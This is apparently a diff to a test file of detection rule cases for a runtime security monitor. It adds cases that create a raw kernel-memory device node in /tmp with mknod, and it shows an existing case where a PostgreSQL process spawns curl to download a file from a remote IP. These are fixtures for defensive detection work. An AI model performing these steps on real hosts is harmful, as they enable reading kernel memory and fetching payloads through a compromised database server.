@@ -504,6 +504,16 @@ CASES: list[RuleCase] = [
         acting("python3", lambda s, p: _open_by_handle(s, p, -1)),
     ),
     RuleCase(
+        "Raw Access Device Node Created",
+        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/mem", 0o20600, (1 << 20) | 1)),
+        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/null", 0o20600, (1 << 20) | 3)),
+    ),
+    RuleCase(
+        "File Open By Handle Failed",
+        acting("python3", lambda s, p: _open_by_handle(s, p, -1)),
+        acting("python3", lambda s, p: _open_by_handle(s, p, 5)),
+    ),
+    RuleCase(
         "Program Spawned By Database Server",
         started("curl", "-o", "/tmp/x", "http://203.0.113.9/x", parent="postgres"),
         started("postgres", "-D", "/var/lib/postgresql", parent="postgres"),
